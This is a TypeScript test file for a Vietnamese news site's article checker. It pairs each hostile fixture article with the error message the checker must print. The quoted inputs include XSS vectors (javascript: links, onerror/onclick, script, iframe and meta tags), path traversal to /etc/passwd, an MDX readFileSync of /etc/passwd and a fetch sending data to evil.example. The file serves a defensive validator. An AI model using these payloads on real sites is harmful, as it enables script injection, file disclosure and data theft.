/**
 * Each hostile file (tests/fixtures/hostile) and every line the check must print for it:
 * the file, the line, and what to write instead. Each is also built by tests/build/hostile.test.ts.
 */
export const HOSTILE_CASES: [file: string, messages: string[]][] = [
  ["bai-viet/anh-bia-cut.md", [
    "bai-viet/anh-bia-cut.md:10 — trường cover.src: ảnh \"./anh/bi-cat.jpg\" bị hỏng hoặc chép thiếu (không giải mã được trọn vẹn); hãy mở ảnh gốc, lưu lại rồi chép lại",
  ]],
  ["bai-viet/anh-bia-hong.md", [
    "bai-viet/anh-bia-hong.md:10 — trường cover.src: tệp \"./anh/hong.jpg\" không phải là ảnh đọc được; hãy dùng ảnh JPEG, PNG, WebP hoặc AVIF",
  ]],
  ["bai-viet/anh-bia-qua-nhieu-diem.md", [
    "bai-viet/anh-bia-qua-nhieu-diem.md:10 — trường cover.src: ảnh \"./anh/qua-nhieu-diem.png\" có 56 triệu điểm ảnh (8000×7000), quá giới hạn 50 triệu; hãy thu nhỏ ảnh (chiều rộng khoảng 2000 px là đủ)",
  ]],
  ["bai-viet/anh-bia-ra-ngoai.md", [
    "bai-viet/anh-bia-ra-ngoai.md:10 — trường cover.src: đường dẫn ảnh \"../../outside/x.jpg\" đi ra khỏi thư mục của bài (có \"..\"); hãy chép ảnh vào thư mục anh/ cạnh bài và viết ./anh/ten-anh.jpg",
  ]],
  ["bai-viet/anh-bia-rong.md", [
    "bai-viet/anh-bia-rong.md:10 — trường cover.src: tệp \"./anh/rong.jpg\" rỗng (0 byte), có lẽ chép chưa xong; hãy chép lại ảnh",
  ]],
  ["bai-viet/anh-bia-sai-duoi.md", [
    "bai-viet/anh-bia-sai-duoi.md:10 — trường cover.src: tệp \"./anh/that-ra-la-png.jpg\" mang đuôi .jpg nhưng thật ra là ảnh PNG; hãy đổi tên tệp sang đuôi .png (và sửa đường dẫn trong bài)",
  ]],
  ["bai-viet/anh-bia-svg-doi-ten.md", [
    "bai-viet/anh-bia-svg-doi-ten.md:10 — trường cover.src: ảnh \"./anh/svg-doi-ten.png\" là ảnh SVG, loại ảnh có thể chứa mã lệnh nên không được dùng; hãy dùng ảnh JPEG, PNG, WebP hoặc AVIF (xuất SVG ra PNG)",
  ]],
  ["bai-viet/anh-bia-svg.md", [
    "bai-viet/anh-bia-svg.md:10 — trường cover.src: đường dẫn ảnh \"./anh/co-ma-lenh.svg\" là ảnh SVG, loại ảnh có thể chứa mã lệnh nên không được dùng; hãy dùng ảnh JPEG, PNG, WebP hoặc AVIF (xuất SVG ra PNG)",
  ]],
  ["bai-viet/anh-bia-tuyet-doi.md", [
    "bai-viet/anh-bia-tuyet-doi.md:10 — trường cover.src: đường dẫn ảnh \"/etc/passwd\" là đường dẫn tuyệt đối; hãy chép ảnh vào thư mục anh/ cạnh bài và viết ./anh/ten-anh.jpg",
  ]],
  ["bai-viet/anh-data-url-md.md", [
    "bai-viet/anh-data-url-md.md:12 — ảnh \"data:image/png;base64,iVBORw0KGgo=\" là dữ liệu nhúng (data:), không phải tệp; hãy chép ảnh vào thư mục anh/ cạnh bài và viết ./anh/ten-anh.jpg",
  ]],
  ["bai-viet/anh-data-url.mdx", [
    "bai-viet/anh-data-url.mdx:12 — ảnh \"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\" là dữ liệu nhúng (data:), không phải tệp; hãy chép ảnh vào thư mục anh/ cạnh bài và viết ./anh/ten-anh.jpg",
  ]],
  ["bai-viet/anh-ra-ngoai.mdx", [
    "bai-viet/anh-ra-ngoai.mdx:12 — ảnh \"../../../../etc/anh.jpg\" đi ra khỏi thư mục của bài (có \"..\"); hãy chép ảnh vào thư mục anh/ cạnh bài và viết ./anh/ten-anh.jpg",
  ]],
  ["bai-viet/anh-the-img-md.md", [
    "bai-viet/anh-the-img-md.md:12 — ảnh \"./anh/phong-van.jpg\" viết bằng thẻ <img> không được xử lý để đăng; hãy viết ![mô tả ảnh](./anh/phong-van.jpg)",
  ]],
  ["bai-viet/anh-trong-bai-svg.md", [
    "bai-viet/anh-trong-bai-svg.md:12 — ảnh \"./anh/co-ma-lenh.svg\" là ảnh SVG, loại ảnh có thể chứa mã lệnh nên không được dùng; hãy dùng ảnh JPEG, PNG, WebP hoặc AVIF (xuất SVG ra PNG)",
  ]],
  ["bai-viet/bieu-mau.md", [
    "bai-viet/bieu-mau.md:12 — thẻ <form> không có trong danh sách thẻ được dùng; hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/bieu-thuc-goi-ham.mdx", [
    "bai-viet/bieu-thuc-goi-ham.mdx:12 — biểu thức {fetch('https://evil.example/steal?c=' + …} không được phép trong bài (nó chạy mã lệnh khi dựng trang); nếu muốn viết dấu ngoặc nhọn trong chữ, hãy viết \\{ và \\}",
  ]],
  ["bai-viet/bieu-thuc-long-nhau.mdx", [
    "bai-viet/bieu-thuc-long-nhau.mdx:12 — giá trị của speaker trong <Quote> phải là chữ trong ngoặc kép (speaker=\"…\"), không phải biểu thức {…}",
  ]],
  ["bai-viet/css-url-javascript-md.md", [
    "bai-viet/css-url-javascript-md.md:12 — thuộc tính style của thẻ <p> không được dùng: trang dùng kiểu trình bày chung; hãy xóa nó",
  ]],
  ["bai-viet/css-url-javascript.mdx", [
    "bai-viet/css-url-javascript.mdx:12 — thuộc tính style của thẻ <p> không được dùng: trang dùng kiểu trình bày chung; hãy xóa nó",
  ]],
  ["bai-viet/export-bien.mdx", [
    "bai-viet/export-bien.mdx:12 — bài không được có dòng import hay export: các thành phần <Figure>, <Quote>, <Interview>, <Question>, <Answer>, <Ref>, <Video> có sẵn, không cần import; hãy xóa dòng này",
    "bai-viet/export-bien.mdx:14 — biểu thức {tacGia} không được phép trong bài (nó chạy mã lệnh khi dựng trang); nếu muốn viết dấu ngoặc nhọn trong chữ, hãy viết \\{ và \\}",
  ]],
  ["bai-viet/ghi-chu-html.mdx", [
    "bai-viet/ghi-chu-html.mdx:12 — tệp .mdx không dùng được ghi chú <!-- … -->; hãy viết {/* ghi chú */}",
  ]],
  ["bai-viet/iframe-facebook.mdx", [
    "bai-viet/iframe-facebook.mdx:12 — mã nhúng video Facebook không dán thẳng vào bài được; hãy thay cả đoạn <iframe> bằng dòng: <Video facebook=\"https://www.facebook.com/baonghean/videos/1234567890123456/\" title=\"CẦN ĐIỀN: tên video\" />; \"npm run check -- --fix\" làm việc này",
  ]],
  ["bai-viet/iframe-srcdoc.mdx", [
    "bai-viet/iframe-srcdoc.mdx:12 — thẻ <iframe> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); để nhúng video YouTube hoặc Facebook, hãy dùng <Video youtube=\"mã-video\" title=\"Tên video\" />",
  ]],
  ["bai-viet/iframe-trang-la.mdx", [
    "bai-viet/iframe-trang-la.mdx:12 — thẻ <iframe> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); để nhúng video YouTube hoặc Facebook, hãy dùng <Video youtube=\"mã-video\" title=\"Tên video\" />",
  ]],
  ["bai-viet/iframe-youtube-md.md", [
    "bai-viet/iframe-youtube-md.md:12 — mã nhúng video YouTube không dán thẳng vào bài được; hãy thay cả đoạn <iframe> bằng dòng: <Video youtube=\"dQw4w9WgXcQ\" title=\"Lễ tuyên dương gương điển hình\" /> (thành phần <Video> chỉ dùng được trong tệp .mdx: hãy đổi đuôi tệp thành .mdx); \"npm run check -- --fix\" làm việc này",
  ]],
  ["bai-viet/iframe-youtube.mdx", [
    "bai-viet/iframe-youtube.mdx:12 — mã nhúng video YouTube không dán thẳng vào bài được; hãy thay cả đoạn <iframe> bằng dòng: <Video youtube=\"dQw4w9WgXcQ\" title=\"CẦN ĐIỀN: tên video\" />; \"npm run check -- --fix\" làm việc này",
  ]],
  ["bai-viet/img-onerror.md", [
    "bai-viet/img-onerror.md:12 — ảnh \"x\" viết bằng thẻ <img> không được xử lý để đăng; hãy viết ![mô tả ảnh](x)",
    "bai-viet/img-onerror.md:12 — thuộc tính onerror của thẻ <img> là mã lệnh, không được phép; hãy xóa nó",
  ]],
  ["bai-viet/import-node-fs.mdx", [
    "bai-viet/import-node-fs.mdx:12 — bài không được có dòng import hay export: các thành phần <Figure>, <Quote>, <Interview>, <Question>, <Answer>, <Ref>, <Video> có sẵn, không cần import; hãy xóa dòng này",
    "bai-viet/import-node-fs.mdx:14 — biểu thức {readFileSync('/etc/passwd', 'utf8')} không được phép trong bài (nó chạy mã lệnh khi dựng trang); nếu muốn viết dấu ngoặc nhọn trong chữ, hãy viết \\{ và \\}",
  ]],
  ["bai-viet/import-tep-he-thong.mdx", [
    "bai-viet/import-tep-he-thong.mdx:12 — bài không được có dòng import hay export: các thành phần <Figure>, <Quote>, <Interview>, <Question>, <Answer>, <Ref>, <Video> có sẵn, không cần import; hãy xóa dòng này",
    "bai-viet/import-tep-he-thong.mdx:14 — biểu thức {p} không được phép trong bài (nó chạy mã lệnh khi dựng trang); nếu muốn viết dấu ngoặc nhọn trong chữ, hãy viết \\{ và \\}",
  ]],
  ["bai-viet/lien-ket-hai-gach.md", [
    "bai-viet/lien-ket-hai-gach.md:12 — liên kết \"//evil.example/\" bắt đầu bằng \"//\" (một trang web khác, không rõ giao thức); hãy dùng địa chỉ bắt đầu bằng https:// (hoặc mailto:, tel:)",
  ]],
  ["bai-viet/lien-ket-javascript-md.md", [
    "bai-viet/lien-ket-javascript-md.md:12 — liên kết \"javascript:alert(1)\" là mã lệnh (javascript:), không phải địa chỉ; hãy dùng địa chỉ bắt đầu bằng https:// (hoặc mailto:, tel:)",
  ]],
  ["bai-viet/lien-ket-javascript.mdx", [
    "bai-viet/lien-ket-javascript.mdx:12 — liên kết \"javascript:alert(1)\" là mã lệnh (javascript:), không phải địa chỉ; hãy dùng địa chỉ bắt đầu bằng https:// (hoặc mailto:, tel:)",
  ]],
  ["bai-viet/lien-ket-ma-hoa-md.md", [
    "bai-viet/lien-ket-ma-hoa-md.md:12 — liên kết \"javascript:alert(1)\" là mã lệnh (javascript:), không phải địa chỉ; hãy dùng địa chỉ bắt đầu bằng https:// (hoặc mailto:, tel:)",
  ]],
  ["bai-viet/lien-ket-ma-hoa.mdx", [
    "bai-viet/lien-ket-ma-hoa.mdx:12 — liên kết \"javascript:alert(1)\" là mã lệnh (javascript:), không phải địa chỉ; hãy dùng địa chỉ bắt đầu bằng https:// (hoặc mailto:, tel:)",
  ]],
  ["bai-viet/meta-refresh-md.md", [
    "bai-viet/meta-refresh-md.md:12 — thẻ <meta> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/meta-refresh.mdx", [
    "bai-viet/meta-refresh.mdx:12 — thẻ <meta> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/nut-formaction.mdx", [
    "bai-viet/nut-formaction.mdx:12 — thẻ <button> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/script-md.md", [
    "bai-viet/script-md.md:12 — thẻ <script> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/script-mdx.mdx", [
    "bai-viet/script-mdx.mdx:12 — thẻ <script> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/su-kien-onclick.mdx", [
    "bai-viet/su-kien-onclick.mdx:12 — thuộc tính onclick của thẻ <span> là mã lệnh, không được phép; hãy xóa nó",
  ]],
  ["bai-viet/svg-trong-bai-md.md", [
    "bai-viet/svg-trong-bai-md.md:12 — thẻ <svg> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/svg-trong-bai.mdx", [
    "bai-viet/svg-trong-bai.mdx:12 — thẻ <svg> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/thanh-phan-la.mdx", [
    "bai-viet/thanh-phan-la.mdx:12 — không có thành phần <Figur>; có phải ý bạn là <Figure>? Các thành phần dùng được: <Figure>, <Quote>, <Interview>, <Question>, <Answer>, <Ref>, <Video>",
  ]],
  ["bai-viet/thanh-phan-thuoc-tinh-la.mdx", [
    "bai-viet/thanh-phan-thuoc-tinh-la.mdx:12 — <Quote> không có thuộc tính onClick; các thuộc tính dùng được: speaker, role; ví dụ: <Quote speaker=\"Nguyễn Văn A\" role=\"Bí thư Tỉnh ủy\">Lời phát biểu.</Quote>",
  ]],
  ["bai-viet/thanh-phan-trong-md.md", [
    "bai-viet/thanh-phan-trong-md.md:12 — thành phần <Quote> chỉ dùng được trong tệp .mdx; hãy đổi đuôi tệp thành .mdx, hoặc viết bằng Markdown",
  ]],
  ["bai-viet/the-base-md.md", [
    "bai-viet/the-base-md.md:12 — thẻ <base> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/the-base.mdx", [
    "bai-viet/the-base.mdx:12 — thẻ <base> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/the-dong-thua.md", [
    "bai-viet/the-dong-thua.md:14 — thẻ đóng </div> không có thẻ mở tương ứng; hãy xóa nó hoặc thêm <div> ở chỗ bắt đầu",
  ]],
  ["bai-viet/the-long-sai-md.md", [
    "bai-viet/the-long-sai-md.md:12 — thẻ </b> đóng khi thẻ <i> mở sau nó chưa đóng; các thẻ phải đóng theo thứ tự ngược với khi mở, ví dụ <b><i>…</i></b>",
  ]],
  ["bai-viet/the-long-sai.mdx", [
    "bai-viet/the-long-sai.mdx:12 — thẻ </b> đóng khi thẻ <i> mở sau nó chưa đóng; các thẻ phải đóng theo thứ tự ngược với khi mở, ví dụ <b><i>…</i></b>",
  ]],
  ["bai-viet/the-mo-khong-dong-md.md", [
    "bai-viet/the-mo-khong-dong-md.md:12 — thẻ <div> mở ở đây mà không đóng; hãy thêm </div> ở chỗ nó kết thúc (nếu không, phần sau của trang — tên tác giả, tag, tin khác — sẽ bị cuốn vào trong nó)",
  ]],
  ["bai-viet/the-mo-khong-dong.mdx", [
    "bai-viet/the-mo-khong-dong.mdx:12 — thẻ <div> mở ở đây mà không đóng; hãy thêm </div> (trong MDX, thẻ mở và thẻ đóng phải nằm cùng một đoạn, hoặc mỗi thẻ đứng riêng một dòng)",
  ]],
  ["bai-viet/the-object-md.md", [
    "bai-viet/the-object-md.md:12 — thẻ <object> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/the-object.mdx", [
    "bai-viet/the-object.mdx:12 — thẻ <object> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); hãy xóa thẻ này (xem docs/bien-tap.md, mục \"Những gì được viết trong thân bài\")",
  ]],
  ["bai-viet/the-style-md.md", [
    "bai-viet/the-style-md.md:12 — thẻ <style> không được phép trong bài (nó chạy mã lệnh, tải nội dung từ nơi khác hoặc đổi giao diện trang); trang dùng kiểu chữ chung, hãy bỏ phần định dạng",
  ]],
  ["bai-viet/thuoc-tinh-bieu-thuc.mdx", [
    "bai-viet/thuoc-tinh-bieu-thuc.mdx:12 — giá trị của credit trong <Figure> phải là chữ trong ngoặc kép (credit=\"…\"), không phải biểu thức {…}",
  ]],
  ["bai-viet/thuoc-tinh-trai-ra.mdx", [
    "bai-viet/thuoc-tinh-trai-ra.mdx:12 — thuộc tính {…} của <Figure> không được phép; hãy viết từng thuộc tính dạng ten=\"giá trị\", ví dụ: <Figure caption=\"Chú thích\" credit=\"Tên người chụp\">![mô tả ảnh](./anh/ten-anh.jpg)</Figure>",
  ]],
  ["bai-viet/video-ma-sai.mdx", [
    "bai-viet/video-ma-sai.mdx:12 — <Video> cần youtube=\"mã video gồm 11 ký tự\" (phần sau v= trong địa chỉ YouTube) hoặc facebook=\"địa chỉ trang video trên Facebook\"; ví dụ: <Video youtube=\"mã-video\" title=\"Tên video\" />",
  ]],
];
